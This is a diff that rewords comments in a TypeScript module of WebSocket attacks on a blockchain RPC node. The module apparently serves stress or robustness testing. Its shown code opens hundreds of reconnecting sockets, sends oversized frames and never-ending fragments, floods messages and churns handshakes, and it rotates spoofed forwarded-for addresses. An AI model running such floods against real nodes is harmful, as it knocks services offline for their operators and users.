@@ -1,4 +1,4 @@
-/** WebSockets: never read, never finished, too much at once. */
+/** Attacks by WebSockets: sockets that never read, messages that never end, and floods. */
 import { WebSocket } from 'ws'
 import type { Attack, Target } from './attack.ts'
 import { batch, call, hex } from './flood.ts'
@@ -9,7 +9,7 @@ const AGAIN_MS = 500
 const CHAIN_ID = call('eth_chainId', []).toString()
 const PIECE_BYTES = 1_000_000
 
-/** Opens so many, each again when it was closed; the tally gets why. */
+/** Keeps `count` sockets open; reopens each after it closes, and tallies the reason. */
 function keepOpen(target: Target, count: number, use: (socket: WebSocket) => void): void {
   const open = (client: number): void => {
     const headers = { 'x-forwarded-for': target.address(client % 16) }
@@ -43,7 +43,9 @@ function subscribers(target: Target): void {
   })
 }
 
-/** Writes again when the system has taken what was written before; not after a fault, which is told before the end. */
+/**
+ * Writes again when the system has accepted the last write; stops after an error, which arrives before the close event.
+ */
 function writeOn(socket: WebSocket, write: (done: (error?: Error | null) => void) => void): void {
   const next = (error?: Error | null): void => {
     if (error == null && socket.readyState === WebSocket.OPEN) write(next)
@@ -61,13 +63,13 @@ function pings(target: Target): void {
   })
 }
 
-/** Messages longer than what is taken, in one frame. */
+/** Sends messages above the length limit, in one frame. */
 function hugeFrames(target: Target): void {
   const frame = Buffer.alloc(30_000_000, 0x20)
   keepOpen(target, 8, (socket) => socket.send(frame))
 }
 
-/** Pieces of messages that have no end. */
+/** Sends fragments of messages that never end. */
 function unfinished(target: Target): void {
   const piece = Buffer.alloc(PIECE_BYTES, 0x20)
   keepOpen(target, 300, (socket) => {
@@ -76,7 +78,7 @@ function unfinished(target: Target): void {
   })
 }
 
-/** As fast as it takes them, and reads. */
+/** Sends messages as fast as the node accepts them, and reads the answers. */
 function messages(target: Target): void {
   keepOpen(target, 16, (socket) => {
     socket.on('message', (data: Buffer) => {
@@ -98,7 +100,7 @@ function neverRead(target: Target, body: Buffer): void {
   })
 }
 
-/** Opens and closes. */
+/** Opens and closes sockets. */
 function handshakes(target: Target): void {
   keepOpen(target, 200, (socket) => socket.terminate())
 }
